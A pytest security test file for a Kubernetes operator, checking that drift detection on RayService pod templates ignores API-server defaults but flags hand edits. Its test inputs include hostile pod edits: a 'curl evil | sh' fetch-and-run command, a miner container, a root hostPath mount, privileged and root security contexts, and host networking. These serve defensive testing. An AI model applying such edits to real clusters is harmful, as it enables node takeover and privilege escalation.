"""Ownership of the RayService's pod templates: what someone adds by hand is drift and is
removed; what the API server or KubeRay's CRD schema fills in is not."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from factories import make_model, pool
from modelgrid_operator.drift import drift_patch
from modelgrid_operator.ownership import describe_owner, is_owned_by
from modelgrid_operator.settings import RenderSettings
from rendered import pool_rayservice

pytestmark = [pytest.mark.unit, pytest.mark.security]

OWNER = {"name": "demo", "uid": "uid-demo"}


def desired() -> dict[str, Any]:
    model = make_model(pools=[pool("gpu", "nvidia", resources={"requests": {"memory": "16Gi"}})])
    return pool_rayservice(model, settings=RenderSettings(), owner=OWNER)


def with_server_defaults(rayservice: dict[str, Any]) -> dict[str, Any]:
    """The RayService as a real API server returns it: metadata, status, the CRD schema's
    defaults (port protocol, a worker group's numOfHosts), pod defaults some tools write back,
    and a memory quantity in another spelling."""
    live = copy.deepcopy(rayservice)
    live["metadata"].update(resourceVersion="42", uid="rs-uid", generation=3)
    live["status"] = {"serviceStatus": "Running"}
    cluster = live["spec"]["rayClusterConfig"]
    templates = [cluster["headGroupSpec"]["template"]] + [
        g["template"] for g in cluster["workerGroupSpecs"]
    ]
    for group in cluster["workerGroupSpecs"]:
        group.update(numOfHosts=1, priority=0)
    for template in templates:
        spec = template["spec"]
        spec.update(
            restartPolicy="Always",
            dnsPolicy="ClusterFirst",
            schedulerName="default-scheduler",
            terminationGracePeriodSeconds=30,
            securityContext=spec.get("securityContext", {}),
        )
        for container in spec["containers"]:
            container.update(
                terminationMessagePath="/dev/termination-log",
                terminationMessagePolicy="File",
                imagePullPolicy="IfNotPresent",
            )
            for port in container.get("ports", []):
                port.setdefault("protocol", "TCP")
    worker = cluster["workerGroupSpecs"][0]["template"]["spec"]["containers"][0]
    worker["resources"]["requests"]["memory"] = str(16 * 2**30)
    return live


def head(rs: dict[str, Any]) -> dict[str, Any]:
    return rs["spec"]["rayClusterConfig"]["headGroupSpec"]["template"]["spec"]


def worker(rs: dict[str, Any]) -> dict[str, Any]:
    return rs["spec"]["rayClusterConfig"]["workerGroupSpecs"][0]["template"]["spec"]


def test_ownership_server_defaults_alone_are_not_drift() -> None:
    assert drift_patch(with_server_defaults(desired()), desired()) is None


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("hostNetwork", True),
        ("hostPID", True),
        ("serviceAccountName", "cluster-admin-sa"),
        ("automountServiceAccountToken", True),
        ("nodeName", "control-plane-1"),
    ],
)
def test_ownership_field_added_to_head_template_is_removed(field: str, value: Any) -> None:
    live = with_server_defaults(desired())
    head(live)[field] = value
    patch = drift_patch(live, desired())
    assert patch is not None
    # A merge patch's null deletes a field we do not render; one we render is set back.
    assert head(patch)[field] == head(desired()).get(field)
    assert head(patch)["containers"] == head(desired())["containers"]


def test_ownership_privileged_worker_container_is_restored() -> None:
    live = with_server_defaults(desired())
    worker(live)["containers"][0]["securityContext"] = {"privileged": True}
    patch = drift_patch(live, desired())
    assert patch is not None
    groups = patch["spec"]["rayClusterConfig"]["workerGroupSpecs"]
    assert groups == desired()["spec"]["rayClusterConfig"]["workerGroupSpecs"]


@pytest.mark.parametrize(
    "edit",
    [
        lambda spec: spec["containers"].append({"name": "miner", "image": "evil:latest"}),
        lambda spec: spec["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
        lambda spec: spec["containers"][0]["volumeMounts"].append(
            {"name": "root", "mountPath": "/h"}
        ),
        lambda spec: spec.update(nodeSelector={**spec["nodeSelector"], "node-role": "master"}),
        lambda spec: spec["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
        lambda spec: spec.update(securityContext={"runAsUser": 0}),
    ],
    ids=["extra-container", "extra-volume", "extra-mount", "node-selector", "command", "root"],
)
def test_ownership_hand_edit_of_worker_template_is_drift(edit: Any) -> None:
    live = with_server_defaults(desired())
    edit(worker(live))
    assert drift_patch(live, desired()) is not None


def test_ownership_fields_outside_the_templates_are_left_alone() -> None:
    live = with_server_defaults(desired())
    live["spec"]["suspend"] = False
    live["metadata"]["labels"]["team"] = "a"
    assert drift_patch(live, desired()) is None


def test_ownership_controller_reference_decides_whose_rayservice_it_is() -> None:
    ours = desired()
    assert is_owned_by(ours, "uid-demo")
    assert not is_owned_by(ours, "uid-other")
    hand_made = {"metadata": {"name": "demo"}}
    assert not is_owned_by(hand_made, "uid-demo")
    assert "no controller owner reference" in describe_owner(hand_made)
    borrowed = copy.deepcopy(ours)
    borrowed["metadata"]["ownerReferences"][0]["controller"] = False  # a plain owner: not enough
    assert not is_owned_by(borrowed, "uid-demo")
    other = {
        "metadata": {
            "ownerReferences": [
                {"kind": "Deployment", "name": "x", "uid": "u1", "controller": True}
            ]
        }
    }
    assert describe_owner(other) == "it is controlled by Deployment x (uid u1)"
